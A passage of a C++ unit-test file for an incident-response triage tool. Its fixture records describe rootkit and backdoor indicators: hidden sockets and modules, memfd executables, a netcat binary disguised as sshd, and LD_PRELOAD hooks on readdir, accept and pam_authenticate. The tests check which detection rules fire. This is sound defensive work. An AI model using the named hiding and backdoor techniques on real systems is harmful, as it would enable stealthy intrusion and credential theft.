// SPDX-License-Identifier: Apache-2.0
// Each triage rule over literal records: what must fire, what must not, and the evidence place.
#include <gtest/gtest.h>

#include <algorithm>
#include <map>

#include <fmt/format.h>

#include "analysis/rules.hpp"
#include "irsnap/text.hpp"
#include "irsnap/triage.hpp"
#include "triage_test_util.hpp"

namespace irsnap::triage {
namespace {

using nlohmann::json;

using test::input_of;
using test::of_rule;

TEST(TriageRules, RegistryHasUniqueIdsSpecsAndReadsOnlyRealCollectors) {
    std::set<std::string_view> ids;
    const std::set<std::string> collectors = {
        "processes",        "network",    "modules",      "autoruns",  "kernel_modules",
        "hidden_processes", "interfaces", "routes",       "neighbors", "samples",
        "memory",           "bpf",        "kernel_state", "activity"};
    for (const Rule& r : rules()) {
        EXPECT_TRUE(ids.insert(r.id).second) << r.id;
        EXPECT_FALSE(r.title.empty()) << r.id;
        EXPECT_GT(r.rationale.size(), 40u) << r.id;
        EXPECT_NE(r.start, nullptr) << r.id;
    }
    for (const auto& c : needed_collectors()) EXPECT_TRUE(collectors.count(c)) << c;
    // Specimens are read whatever the rules read: every finding may name them.
    const auto needed = needed_collectors();
    EXPECT_NE(std::find(needed.begin(), needed.end(), "samples"), needed.end());
    // So is memory: every finding may name the dumps and regions of its processes.
    EXPECT_NE(std::find(needed.begin(), needed.end(), "memory"), needed.end());
    EXPECT_GE(rules().size(), 20u);
}

TEST(TriageRules, HiddenProcessFindingsButNotTheScanRecord) {
    auto in =
        input_of({{"hidden_processes",
                   {R"({"kind":"scan","findings":2})",
                    R"({"kind":"unlisted_pid","pid":4242,"name":"evil","why":"answers kill"})",
                    R"({"kind":"listed_pid_not_answering","pid":7,"why":"gone"})"}}});
    auto f = of_rule(in, "IRS-HID-001");
    ASSERT_EQ(f.size(), 2u);
    EXPECT_EQ(f[0].urgency, Urgency::critical);
    EXPECT_EQ(f[0].evidence[0].line, 2u);
    EXPECT_EQ(f[0].evidence[0].fields["pid"], 4242);
    EXPECT_EQ(f[0].why, "answers kill");
    EXPECT_EQ(f[1].urgency, Urgency::medium);  // a race is likelier than a rootkit
}

TEST(TriageRules, CrossViewSocketModuleAndInterface) {
    auto in = input_of(
        {{"network",
          {R"({"protocol":"tcp","local_address":"10.0.0.1","local_port":22,"remote_address":"1.2.3.4","remote_port":4444,"state":"ESTABLISHED","cross_view_discrepancy":true,"discrepancy":"hidden from /proc/net"})",
           R"({"protocol":"tcp","local_address":"10.0.0.1","local_port":22,"state":"LISTEN","cross_view_discrepancy":false})",
           R"j({"protocol":"tcp","local_address":"127.0.0.1","local_port":31337,"state":"LISTEN","views":["netlink","iter/tcp"],"cross_view_discrepancy":true,"discrepancy":"hidden from /proc/net"})j"}},
         {"kernel_modules",
          {R"({"kind":"module","name":"diamorphine","cross_view_discrepancy":true,"discrepancy":"missing from /proc/modules"})"}},
         {"interfaces", {R"({"name":"tun9","cross_view_discrepancy":true,"discrepancy":"x"})"}}});
    auto sockets = of_rule(in, "IRS-HID-002");  // most urgent first
    ASSERT_EQ(sockets.size(), 2u);
    // A listener netstat cannot see, netlink and the kernel's own table agreeing.
    EXPECT_NE(sockets[0].why.find("31337"), std::string::npos);
    EXPECT_EQ(sockets[0].urgency, Urgency::critical);
    EXPECT_EQ(sockets[0].confidence, Confidence::high);
    EXPECT_NE(sockets[1].why.find("hidden from /proc/net"), std::string::npos);
    EXPECT_EQ(sockets[1].evidence[0].line, 1u);
    EXPECT_EQ(sockets[1].urgency, Urgency::high);  // an established connection
    auto modules = of_rule(in, "IRS-HID-003");
    ASSERT_EQ(modules.size(), 1u);
    EXPECT_NE(modules[0].why.find("diamorphine"), std::string::npos);
    EXPECT_EQ(of_rule(in, "IRS-HID-004").size(), 1u);
}

TEST(TriageRules, ASocketOnlyTheKernelTablesHoldIsItsOwnRule) {
    auto in = input_of(
        {{"network",
          {R"j({"protocol":"tcp","local_address":"0.0.0.0","local_port":31337,"state":"LISTEN","inode":7,"views":["iter/tcp"],"cross_view_discrepancy":true,"discrepancy":"only the kernel's socket table (iter/tcp) holds it"})j",
           R"j({"protocol":"unix","local_address":"@x","state":"CONNECTED","inode":8,"views":["iter/unix"],"cross_view_discrepancy":true,"discrepancy":"only the kernel's socket table (iter/unix) holds it"})j",
           R"j({"protocol":"tcp","local_address":"0.0.0.0","local_port":22,"state":"LISTEN","inode":9,"views":["proc","iter/tcp"],"cross_view_discrepancy":false})j",
           R"j({"protocol":"udp","local_address":"0.0.0.0","local_port":68,"state":"CLOSE","inode":10,"views":["netlink","proc"],"cross_view_discrepancy":true,"discrepancy":"missing from the kernel's socket table (iter/udp) while /proc/net listed it before and after (re-checked)"})j"}}});
    auto kernel_only = of_rule(in, "IRS-NET-005");
    ASSERT_EQ(kernel_only.size(), 2u);
    EXPECT_EQ(kernel_only[0].urgency, Urgency::critical);  // the hidden listener
    EXPECT_NE(kernel_only[0].why.find("31337"), std::string::npos);
    EXPECT_EQ(kernel_only[1].urgency, Urgency::high);
    auto one_view = of_rule(in, "IRS-HID-002");  // one finding per socket, not two
    ASSERT_EQ(one_view.size(), 1u);
    EXPECT_EQ(one_view[0].urgency, Urgency::low);  // only the iterator lacks it
}

TEST(TriageRules, DeletedMemfdAndTemporaryExecutables) {
    auto in = input_of(
        {{"processes",
          {R"({"pid":10,"name":"sshd","exe_path":"/usr/sbin/sshd","exe_deleted":true,"exe_memfd":false})",
           R"({"pid":11,"name":"x","exe_path":"/memfd:x","exe_deleted":true,"exe_memfd":true})",
           R"({"pid":12,"name":"miner","exe_path":"/dev/shm/.x/miner","exe_deleted":false})",
           R"({"pid":13,"name":"bash","exe_path":"/usr/bin/bash","exe_deleted":false})",
           R"({"pid":14,"name":"a.exe","exe_path":"C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe"})"}}});
    auto deleted = of_rule(in, "IRS-EXE-001");
    ASSERT_EQ(deleted.size(), 1u);  // the memfd one is IRS-EXE-002, not both
    EXPECT_EQ(deleted[0].evidence[0].fields["pid"], 10);
    auto memfd = of_rule(in, "IRS-EXE-002");
    ASSERT_EQ(memfd.size(), 1u);
    EXPECT_EQ(memfd[0].evidence[0].fields["pid"], 11);
    EXPECT_EQ(memfd[0].urgency, Urgency::critical);
    auto temp = of_rule(in, "IRS-EXE-003");
    ASSERT_EQ(temp.size(), 2u);
    EXPECT_EQ(temp[0].evidence[0].fields["pid"], 12);
    EXPECT_EQ(temp[1].evidence[0].fields["pid"], 14);
}

TEST(TriageRules, KernelThreadNamesOnUserSpaceProgramsOnly) {
    auto in = input_of(
        {{"processes",
          {R"({"pid":2,"name":"kthreadd","kernel_thread":true,"argv":[],"exe_path":null})",
           R"({"pid":20,"name":"kworker/0:2","kernel_thread":false,"argv":["kworker/0:2"],"exe_path":"/tmp/k"})",
           R"({"pid":21,"name":"xmrig","kernel_thread":false,"argv":["[ksoftirqd/1]"],"exe_path":"/usr/bin/xmrig"})",
           R"({"pid":22,"name":"nginx","kernel_thread":false,"argv":["nginx: worker"],"exe_path":"/usr/sbin/nginx"})"}}});
    auto f = of_rule(in, "IRS-EXE-004");
    ASSERT_EQ(f.size(), 2u);
    EXPECT_EQ(f[0].evidence[0].fields["pid"], 20);
    EXPECT_EQ(f[1].evidence[0].fields["pid"], 21);
    EXPECT_NE(f[1].why.find("[ksoftirqd/1]"), std::string::npos);
    EXPECT_TRUE(of_rule(in, "IRS-EXE-005").empty()) << "kernel-thread names are EXE-004 only";
}

TEST(TriageRules, NameMismatchAllowsTruncationAndScripts) {
    auto in = input_of(
        {{"processes",
          {R"({"pid":30,"name":"systemd-journal","argv":["/lib/systemd/systemd-journald"],"exe_path":"/usr/lib/systemd/systemd-journald"})",
           R"({"pid":31,"name":"backup.py","argv":["/usr/bin/python3","/opt/backup.py"],"exe_path":"/usr/bin/python3.11"})",
           R"({"pid":32,"name":"sshd","argv":["sshd"],"exe_path":"/var/lib/.cache/nc"})"}}});
    auto f = of_rule(in, "IRS-EXE-005");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].evidence[0].fields["pid"], 32);
    EXPECT_EQ(f[0].urgency, Urgency::low);
}

TEST(TriageRules, PreloadAndAuditVariables) {
    auto in = input_of(
        {{"processes",
          {R"({"pid":40,"name":"a","ld_preload":"/usr/lib/libjemalloc.so","ld_audit":null})",
           R"({"pid":41,"name":"b","ld_preload":null,"ld_audit":"/tmp/a.so"})",
           R"({"pid":42,"name":"c","ld_preload":null,"ld_audit":null})"}}});
    auto f = of_rule(in, "IRS-ENV-001");
    ASSERT_EQ(f.size(), 2u);
    EXPECT_EQ(f[0].urgency, Urgency::critical);  // from /tmp: sorted first
    EXPECT_EQ(f[0].evidence[0].fields["pid"], 41);
    EXPECT_EQ(f[1].urgency, Urgency::high);
    EXPECT_NE(f[1].why.find("LD_PRELOAD=/usr/lib/libjemalloc.so"), std::string::npos);
}

TEST(TriageRules, IrcSmtpAndMailServers) {
    const std::string irc =
        R"({"protocol":"tcp","local_address":"10.0.0.5","local_port":40000,"remote_address":"198.51.100.7","remote_port":6697,"state":"ESTABLISHED","owners":[{"pid":50,"name":"bot"}]})";
    const std::string smtp =
        R"({"protocol":"tcp","local_address":"10.0.0.5","local_port":40001,"remote_address":"198.51.100.8","remote_port":25,"state":"SYN_SENT","owners":[]})";
    const std::string closed_irc =
        R"({"protocol":"tcp","local_address":"10.0.0.5","local_port":40002,"remote_address":"198.51.100.7","remote_port":6667,"state":"TIME_WAIT"})";
    auto in = input_of({{"network", {irc, smtp, closed_irc}}});
    auto irc_f = of_rule(in, "IRS-NET-001");
    ASSERT_EQ(irc_f.size(), 1u);
    EXPECT_NE(irc_f[0].why.find("pid 50 (bot)"), std::string::npos) << irc_f[0].why;
    EXPECT_EQ(of_rule(in, "IRS-NET-002").size(), 1u);
    // The same traffic on a mail server is its job.
    auto mail = input_of(
        {{"network",
          {smtp,
           R"({"protocol":"tcp","local_address":"0.0.0.0","local_port":25,"remote_address":"0.0.0.0","remote_port":0,"state":"LISTEN"})"}}});
    EXPECT_TRUE(of_rule(mail, "IRS-NET-002").empty());
}

TEST(TriageRules, UnusualListenersSkipLoopbackCommonPortsAndClientUdp) {
    auto in = input_of(
        {{"network",
          {R"({"protocol":"tcp","local_address":"0.0.0.0","local_port":31337,"state":"LISTEN"})",
           R"({"protocol":"tcp","local_address":"::","local_port":8123,"state":"LISTEN"})",
           R"({"protocol":"tcp","local_address":"0.0.0.0","local_port":22,"state":"LISTEN"})",
           R"({"protocol":"tcp","local_address":"127.0.0.1","local_port":9999,"state":"LISTEN"})",
           R"({"protocol":"udp","local_address":"0.0.0.0","local_port":45678,"state":"CLOSE"})"}}});
    auto f = of_rule(in, "IRS-NET-003");
    ASSERT_EQ(f.size(), 2u);
    EXPECT_EQ(f[0].urgency, Urgency::high);
    EXPECT_EQ(f[0].evidence[0].fields["local_port"], 31337);
    EXPECT_EQ(f[1].urgency, Urgency::low);
    EXPECT_EQ(f[1].evidence[0].fields["local_port"], 8123);
    EXPECT_NE(f[1].why.find("[::]:8123"), std::string::npos) << f[1].why;
}

// Windows's UDP table has no state: a bound UDP endpoint (state null) is a listener there.
TEST(TriageRules, WindowsUdpEndpointsWithoutStateAreListeners) {
    auto in = input_of(
        {{"network",
          {R"({"protocol":"udp","local_address":"0.0.0.0","local_port":31337,"state":null})",
           R"({"protocol":"udp","local_address":"0.0.0.0","local_port":50123,"state":null})",
           R"({"protocol":"udp","local_address":"127.0.0.1","local_port":31338,"state":null})"}}});
    auto f = of_rule(in, "IRS-NET-003");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].evidence[0].fields["local_port"], 31337);
}

TEST(TriageRules, PacketSocketsOfDhcpClientsAreLow) {
    auto in = input_of(
        {{"network",
          {R"({"protocol":"packet","local_port":3,"owners":[{"pid":60,"name":"dhclient"}]})",
           R"({"protocol":"packet","local_port":3,"owners":[{"pid":61,"name":"sniff"}]})",
           R"({"protocol":"tcp","local_port":80,"state":"LISTEN","local_address":"0.0.0.0"})"}}});
    auto f = of_rule(in, "IRS-NET-004");
    ASSERT_EQ(f.size(), 2u);
    EXPECT_EQ(f[0].urgency, Urgency::medium);
    EXPECT_NE(f[0].why.find("sniff"), std::string::npos);
    EXPECT_EQ(f[1].urgency, Urgency::low);
}

TEST(TriageRules, MemoryRules) {
    auto in = input_of(
        {{"processes",
          {R"({"pid":70,"name":"x","exe_memfd":true,"exe_path":"/memfd:x"})",
           R"({"pid":75,"name":"y","exe_path":"/tmp/y"})",
           R"({"pid":71,"name":"app","signed":true})"}},
         {"modules",
          {R"({"kind":"anonymous_executable","pid":72,"process_name":"java","writable_executable_count":3})",
           R"({"kind":"anonymous_executable","pid":72,"process_name":"java","writable_executable_count":0})",
           R"({"kind":"file","pid":70,"path":"/memfd:x","memfd":true,"executable":true})",
           R"({"kind":"file","pid":73,"path":"/memfd:lib","memfd":true,"executable":true})",
           R"({"kind":"file","pid":74,"path":"/tmp/libx.so","memfd":false,"executable":true})",
           R"({"kind":"file","pid":75,"path":"/tmp/y","memfd":false,"executable":true})",
           R"({"kind":"file","pid":71,"path":"C:\\evil.dll","signed":false,"executable":true})",
           R"({"kind":"file","pid":71,"path":"C:\\good.dll","signed":true,"executable":true})"}}});
    auto wx = of_rule(in, "IRS-MEM-001");
    ASSERT_EQ(wx.size(), 1u);
    EXPECT_NE(wx[0].why.find("3 writable and executable anonymous ranges"), std::string::npos);
    auto code = of_rule(in, "IRS-MEM-002");
    ASSERT_EQ(code.size(), 2u);  // programs' own files (70, 75): IRS-EXE-002/003
    EXPECT_EQ(code[0].evidence[0].fields["pid"], 73);
    EXPECT_EQ(code[0].urgency, Urgency::critical);
    EXPECT_EQ(code[1].evidence[0].fields["pid"], 74);
    auto unsigned_dll = of_rule(in, "IRS-MEM-003");
    ASSERT_EQ(unsigned_dll.size(), 1u);
    EXPECT_EQ(unsigned_dll[0].evidence.size(), 2u);
    EXPECT_EQ(unsigned_dll[0].evidence[1].fields["pid"], 71);
}

TEST(TriageRules, ModulesThatAreNoFindingNeverUseUpTheCap) {
    // A bundle's order: processes, then modules. 1,500 unsigned DLLs of an unsigned program and
    // 1,500 programs mapping their own /tmp file come before the one unsigned DLL in a signed
    // program and the one foreign /tmp library: both must still be reported with evidence.
    Runner runner(k_max_findings_per_rule);
    auto add = [&](const char* collector, uint64_t line, const json& value) {
        runner.add(collector,
                   Record{std::string("artifacts/") + collector + ".jsonl", line, value});
    };
    add("processes", 1, {{"pid", 71}, {"name", "app"}, {"signed", true}});
    add("processes", 2, {{"pid", 80}, {"name", "tool"}, {"signed", false}});
    for (int i = 0; i < 1500; ++i) {
        add("processes", 3 + i, {{"pid", 1000 + i}, {"exe_path", "/tmp/p" + std::to_string(i)}});
    }
    uint64_t line = 1;
    for (int i = 0; i < 1500; ++i) {
        add("modules", line++,
            {{"kind", "file"},
             {"pid", 80},
             {"path", "C:\\x" + std::to_string(i) + ".dll"},
             {"signed", false},
             {"executable", true}});
        add("modules", line++,
            {{"kind", "file"},
             {"pid", 1000 + i},
             {"path", "/tmp/p" + std::to_string(i)},
             {"memfd", false},
             {"executable", true}});
    }
    add("modules", line++,
        {{"kind", "file"},
         {"pid", 71},
         {"path", "C:\\evil.dll"},
         {"signed", false},
         {"executable", true}});
    add("modules", line++,
        {{"kind", "file"},
         {"pid", 1000},
         {"path", "/tmp/libevil.so"},
         {"memfd", false},
         {"executable", true}});
    std::map<std::string, std::vector<Finding>> by_rule;
    for (auto& f : runner.finish(Context{})) by_rule[f.rule_id].push_back(std::move(f));
    ASSERT_EQ(by_rule["IRS-MEM-003"].size(), 1u);
    EXPECT_EQ(by_rule["IRS-MEM-003"][0].evidence.at(0).fields["path"], "C:\\evil.dll");
    ASSERT_EQ(by_rule["IRS-MEM-002"].size(), 1u);
    EXPECT_EQ(by_rule["IRS-MEM-002"][0].evidence.at(0).fields["path"], "/tmp/libevil.so");
}

TEST(TriageRules, PreloadedLibraryHooksNameTheTechnique) {
    auto in = input_of(
        {{"autoruns",
          {R"({"category":"ld_so_preload","source_path":"/etc/ld.so.preload","source_line":1,"command":"/lib/libhide.so","preload_hooks":["readdir","fopen"],"preload_techniques":["process_hiding","file_hiding"]})",
           R"({"category":"ld_so_preload","source_path":"/etc/ld.so.preload","source_line":2,"command":"/lib/libjemalloc.so","preload_hooks":[],"preload_techniques":[]})",
           R"({"category":"cron","source_path":"/etc/crontab","source_line":3,"command":"x","preload_hooks":["readdir"]})"}},
         {"processes",
          {R"({"pid":42,"name":"make","ld_preload":"/usr/lib/libfakeroot.so","ld_preload_hooks":["__lxstat","stat","x\u001b[31m",7],"ld_preload_techniques":["file_hiding"]})",
           R"({"pid":43,"name":"sshd","ld_preload":"/lib/b.so","ld_preload_hooks":["accept","pam_authenticate"]})",
           R"({"pid":44,"name":"ls","ld_preload":"/lib/c.so","ld_preload_hooks":null})"}}});
    std::map<std::string, Finding> by_line;
    for (auto& f : of_rule(in, "IRS-HID-005")) {
        by_line[f.evidence.at(0).artifact + ":" + std::to_string(f.evidence.at(0).line)] =
            std::move(f);
    }
    ASSERT_EQ(by_line.size(), 3u);
    const Finding& hide = by_line.at("artifacts/07_autoruns.jsonl:1");
    EXPECT_EQ(hide.urgency, Urgency::critical);
    EXPECT_EQ(hide.attack, "T1574.006");
    EXPECT_NE(hide.why.find("/etc/ld.so.preload:1 makes every dynamic program load "
                            "/lib/libhide.so"),
              std::string::npos)
        << hide.why;
    EXPECT_NE(hide.why.find("process hiding (readdir hook); file and socket hiding (fopen hook)"),
              std::string::npos)
        << hide.why;
    EXPECT_EQ(hide.evidence[0].fields["preload_hooks"], json({"readdir", "fopen"}));
    // File hiding alone is what fakeroot does too: high. Names not on the list are not repeated.
    const Finding& files = by_line.at("artifacts/07_processes.jsonl:1");
    EXPECT_EQ(files.urgency, Urgency::high);
    EXPECT_NE(files.why.find("file and socket hiding (__lxstat, stat hooks)"), std::string::npos)
        << files.why;
    EXPECT_EQ(files.why.find('\x1b'), std::string::npos);
    const Finding& backdoor = by_line.at("artifacts/07_processes.jsonl:2");
    EXPECT_EQ(backdoor.urgency, Urgency::critical);
    EXPECT_NE(backdoor.why.find("pid 43 (sshd) has LD_PRELOAD=/lib/b.so, which hooks libc: "
                                "backdoor (accept, pam_authenticate hooks)"),
              std::string::npos)
        << backdoor.why;
}

TEST(TriageRules, AutorunPreloadMissingTemporaryAndRecent) {
    auto in = input_of(
        {{"autoruns",
          {R"({"category":"ld_so_preload","source_path":"/etc/ld.so.preload","source_line":1,"command":"/lib/x86_64-linux-gnu/libprocesshider.so"})",
           R"({"category":"cron","source_path":"/etc/crontab","source_line":9,"command":"/tmp/.x/run","target_path":"/tmp/.x/run","target_exists":false,"mtime":"2026-11-20T10:00:00Z","ctime":"2026-11-20T10:00:00Z"})",
           R"({"category":"systemd_unit","source_path":"/lib/systemd/system/p.service","command":"-/bin/plymouth quit","target_path":"/bin/plymouth","target_exists":false,"enabled":true,"mtime":"2020-01-01T00:00:00Z","ctime":"2020-01-01T00:00:00Z"})",
           R"({"category":"systemd_unit","source_path":"/etc/systemd/system/a.service","command":"/usr/bin/a","target_exists":true,"mtime":"2026-11-21T00:00:00.5Z","ctime":"2020-01-01T00:00:00Z"})",
           R"({"category":"systemd_unit","source_path":"/etc/systemd/system/a.service","command":"/usr/bin/a --reload","target_exists":true,"mtime":"2026-11-21T00:00:00.5Z","ctime":"2020-01-01T00:00:00Z"})"}}});
    in.collected_unix_ns = parse_utc_ns("2026-11-22T00:00:00Z");
    ASSERT_GT(in.collected_unix_ns, 0);
    EXPECT_EQ(of_rule(in, "IRS-PER-001").size(), 1u);
    auto missing = of_rule(in, "IRS-PER-002");
    ASSERT_EQ(missing.size(), 2u);
    EXPECT_EQ(missing[0].attack, "T1053.003");  // cron
    EXPECT_EQ(missing[0].urgency, Urgency::medium);
    EXPECT_EQ(missing[1].urgency, Urgency::low);  // systemd '-': optional by design
    auto temp = of_rule(in, "IRS-PER-003");
    ASSERT_EQ(temp.size(), 1u);
    EXPECT_EQ(temp[0].evidence[0].line, 2u);
    auto recent = of_rule(in, "IRS-PER-004");
    ASSERT_EQ(recent.size(), 2u);  // /etc/crontab and a.service, the latter once for two lines
    size_t evidence = recent[0].evidence.size() + recent[1].evidence.size();
    EXPECT_EQ(evidence, 3u);
    in.recent_days = 1;
    EXPECT_EQ(of_rule(in, "IRS-PER-004").size(), 1u);
    in.collected_unix_ns = 0;  // unknown collection time: no guessing
    EXPECT_TRUE(of_rule(in, "IRS-PER-004").empty());
}

TEST(TriageRules, ABurstOfChangedAutorunsIsOneLowFinding) {
    std::vector<std::string> lines;
    for (int i = 0; i < 12; ++i) {  // an upgrade: twelve units within two minutes
        lines.push_back(fmt::format(
            R"({{"category":"systemd_unit","source_path":"/lib/systemd/system/u{}.service","mtime":"2026-11-21T10:0{}:00Z"}})",
            i, i % 3));
    }
    lines.push_back(
        R"({"category":"cron","source_path":"/etc/cron.d/x","mtime":"2026-11-21T15:00:00Z"})");
    Input in;
    for (size_t i = 0; i < lines.size(); ++i) {
        in.records["autoruns"].push_back(
            {"artifacts/12_autoruns.jsonl", i + 1, json::parse(lines[i])});
    }
    in.collected_unix_ns = parse_utc_ns("2026-11-22T00:00:00Z");
    auto f = of_rule(in, "IRS-PER-004");
    ASSERT_EQ(f.size(), 2u);
    EXPECT_EQ(f[0].urgency, Urgency::medium);  // the lone cron file, sorted first
    EXPECT_NE(f[0].why.find("/etc/cron.d/x"), std::string::npos);
    EXPECT_EQ(f[1].urgency, Urgency::low);
    EXPECT_EQ(f[1].evidence.size(), 12u);
    EXPECT_NE(f[1].why.find("12 autorun files changed together"), std::string::npos) << f[1].why;
}

TEST(TriageRules, TaintedKernelAndForeignModules) {
    auto in = input_of(
        {{"kernel_modules",
          {R"({"kind":"kernel","tainted":12288,"taint_flags":[{"bit":12,"letter":"O"},{"bit":13,"letter":"E"}]})",
           R"({"kind":"module","name":"vboxdrv","taint":"OE","file_path":"/lib/modules/6.1/misc/vboxdrv.ko"})",
           R"({"kind":"module","name":"rootkit","taint":"OE","file_path":null})",
           R"({"kind":"module","name":"ext4","taint":"","file_path":"/lib/modules/6.1/ext4.ko"})"}}});
    auto kernel = of_rule(in, "IRS-KRN-001");
    ASSERT_EQ(kernel.size(), 1u);
    EXPECT_EQ(kernel[0].urgency, Urgency::medium);
    EXPECT_NE(kernel[0].why.find("OE"), std::string::npos);
    auto modules = of_rule(in, "IRS-KRN-002");
    ASSERT_EQ(modules.size(), 2u);
    EXPECT_EQ(modules[0].urgency, Urgency::critical);
    EXPECT_EQ(modules[0].evidence[0].fields["name"], "rootkit");
    EXPECT_EQ(modules[1].urgency, Urgency::high);
}

TEST(TriageRules, FindingsAreSortedByUrgencyThenConfidence) {
    auto in = input_of(
        {{"processes",
          {R"({"pid":1,"name":"a","exe_path":"/usr/bin/b","argv":["a"]})",
           R"({"pid":2,"name":"x","exe_path":"/memfd:x","exe_memfd":true,"exe_deleted":true})"}}});
    auto all = run_rules(in);
    ASSERT_GE(all.size(), 2u);
    for (size_t i = 1; i < all.size(); ++i) {
        EXPECT_LE(all[i - 1].urgency, all[i].urgency);
    }
    EXPECT_EQ(all.front().rule_id, "IRS-EXE-002");
    EXPECT_EQ(all.back().rule_id, "IRS-EXE-005");
}

// ---- specimens -------------------------------------------------------------------------------

const std::string k_sha_evil(64, 'a');
const std::string k_sha_lib(64, 'b');
const std::string k_sha_other(64, 'c');

/// A samples record as the collector writes it (specimen_fields()).
std::string specimen(const std::string& sha, const std::string& path, const std::string& status,
                     const json& sources, const json& reasons = json::array({"deleted"})) {
    const bool copied = status == "copied";
    json r = {{"sha256", sha.empty() ? json(nullptr) : json(sha)},
              {"size", 4096},
              {"path", path.empty() ? json(nullptr) : json(path)},
              {"reasons", reasons},
              {"sources", sources},
              {"source_count", sources.size()},
              {"status", status},
              {"status_note", copied ? json(nullptr) : json("--max-evidence-bytes 1 reached")},
              {"archive", copied ? json("artifacts/11_samples.zip") : json(nullptr)},
              {"member", copied ? json(sha) : json(nullptr)},
              {"member_sha256", copied ? json(sha) : json(nullptr)},
              {"copied_bytes", copied ? json(4096) : json(nullptr)}};
    return r.dump();
}

json source(const std::string& kind, int pid, const std::string& path) {
    return {{"kind", kind},      {"pid", pid},
            {"process", "evil"}, {"handle", kind == "exe" ? json(nullptr) : json("fd 3")},
            {"path", path},      {"read_via", "/proc/" + std::to_string(pid) + "/exe"}};
}

TEST(TriageSpecimens, FindingsNameTheSpecimensOfTheirProcessesStrongestFirst) {
    auto in = input_of(
        {{"processes",
          {// Deleted, its content copied: joined by exe_sha256.
           R"({"pid":4242,"name":"evil","exe_path":"/tmp/x/evil","exe_deleted":true,"exe_memfd":false,"exe_sha256":")" +
               k_sha_evil + R"("})",
           // memfd, no specimen in the bundle: the finding names none.
           R"({"pid":77,"name":"x","exe_path":"/memfd:x","exe_deleted":true,"exe_memfd":true})"}},
         {"network",
          {R"({"protocol":"tcp","local_address":"10.0.0.1","local_port":40000,"remote_address":"192.0.2.66","remote_port":6667,"state":"ESTABLISHED","owners":[{"pid":4242,"name":"evil","fd":3}]})"}},
         {"samples",
          {specimen(k_sha_lib, "/dev/shm/libhide.so", "budget",
                    json::array({source("mapping", 4242, "/dev/shm/libhide.so")}),
                    json::array({"preload", "temporary_place"})),
           specimen(k_sha_evil, "/tmp/x/evil", "copied",
                    json::array({source("exe", 4242, "/tmp/x/evil")})),
           specimen(k_sha_other, "/tmp/other", "copied",
                    json::array({source("exe", 9, "/tmp/other")}))}}});
    auto deleted = of_rule(in, "IRS-EXE-001");
    ASSERT_EQ(deleted.size(), 1u);
    ASSERT_EQ(deleted[0].specimens.size(), 2u);
    const SpecimenRef& exe = deleted[0].specimens[0];
    EXPECT_EQ(exe.sha256, k_sha_evil);
    EXPECT_EQ(exe.match, "sha256");
    EXPECT_EQ(exe.status, "copied");
    EXPECT_EQ(exe.archive, "artifacts/11_samples.zip");
    EXPECT_EQ(exe.member, k_sha_evil);
    EXPECT_EQ(exe.artifact, "artifacts/07_samples.jsonl");
    EXPECT_EQ(exe.line, 2u);
    // What the process maps comes after its own program.
    EXPECT_EQ(deleted[0].specimens[1].sha256, k_sha_lib);
    EXPECT_EQ(deleted[0].specimens[1].match, "held");
    EXPECT_EQ(deleted[0].specimens[1].archive, "");
    EXPECT_EQ(specimen_text(exe), k_sha_evil + " in artifacts/11_samples.zip (copied)");
    EXPECT_EQ(specimen_text(deleted[0].specimens[1]),
              k_sha_lib +
                  " not copied (budget: --max-evidence-bytes 1 reached; mapped or held open: "
                  "/dev/shm/libhide.so)");
    const json as_json = to_json(deleted[0]);
    ASSERT_TRUE(as_json.contains("specimens"));
    EXPECT_EQ(as_json["specimens"][0]["sha256"], k_sha_evil);
    EXPECT_EQ(as_json["specimens"][0]["archive"], "artifacts/11_samples.zip");
    EXPECT_EQ(as_json["specimens"][0]["member"], k_sha_evil);
    EXPECT_EQ(as_json["specimens"][0]["status"], "copied");
    EXPECT_EQ(as_json["specimens"][0]["match"], "sha256");
    EXPECT_EQ(as_json["specimens"][0]["line"], 2);
    EXPECT_TRUE(as_json["specimens"][1]["archive"].is_null());

    // A socket's owner is a process the finding is about.
    auto irc = of_rule(in, "IRS-NET-001");
    ASSERT_EQ(irc.size(), 1u);
    ASSERT_EQ(irc[0].specimens.size(), 2u);
    EXPECT_EQ(irc[0].specimens[0].sha256, k_sha_evil);
    EXPECT_EQ(irc[0].specimens[0].match, "exe");
    EXPECT_EQ(irc[0].specimens[1].match, "held");

    // No specimen of pid 77: no specimens, and no key in the JSON.
    auto memfd = of_rule(in, "IRS-EXE-002");
    ASSERT_EQ(memfd.size(), 1u);
    EXPECT_TRUE(memfd[0].specimens.empty());
    EXPECT_FALSE(to_json(memfd[0]).contains("specimens"));
    // The other process's specimen is named by no finding about these processes.
    for (const auto& f : run_rules(in)) {
        for (const auto& s : f.specimens) {
            if (s.sha256 == k_sha_other) EXPECT_EQ(f.rule_id, "IRS-SMP-001") << f.why;
        }
    }
}

TEST(TriageSpecimens, JoinedByPathWhenTheEvidenceHasNoHashOrPid) {
    auto in = input_of(
        {{"autoruns",
          {R"({"category":"cron","source_path":"/etc/cron.d/x","source_line":1,"command":"/tmp/x/evil","target_path":"/tmp/x/evil","target_exists":true})"}},
         {"samples",
          {specimen(k_sha_evil, "/tmp/x/evil", "copied",
                    json::array({source("exe", 4242, "/tmp/x/evil")}))}}});
    auto f = of_rule(in, "IRS-PER-003");
    ASSERT_EQ(f.size(), 1u);
    ASSERT_EQ(f[0].specimens.size(), 1u);
    EXPECT_EQ(f[0].specimens[0].match, "path");
    EXPECT_EQ(f[0].specimens[0].sha256, k_sha_evil);
    EXPECT_EQ(specimen_text(f[0].specimens[0]),
              k_sha_evil + " in artifacts/11_samples.zip (copied; same path)");
}

TEST(TriageSpecimens, AFindingNamesAtMostTenAndNothingWithoutSamples) {
    std::vector<std::string> samples;
    for (int i = 0; i < 15; ++i) {
        std::string sha(64, 'd');
        sha.replace(0, 2, fmt::format("{:02x}", i));
        samples.push_back(specimen(sha, fmt::format("/tmp/lib{}.so", i), "copied",
                                   json::array({source("mapping", 4242, "/tmp/lib.so")})));
    }
    const std::string process =
        R"({"pid":4242,"name":"evil","exe_path":"/tmp/x/evil","exe_deleted":true})";
    auto in = input_of({{"processes", {process}}, {"samples", samples}});
    auto f = of_rule(in, "IRS-EXE-001");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].specimens.size(), k_max_specimens_per_finding);
    // Without a samples artifact (an older bundle, --no-samples) nothing changes.
    auto plain = of_rule(input_of({{"processes", {process}}}), "IRS-EXE-001");
    ASSERT_EQ(plain.size(), 1u);
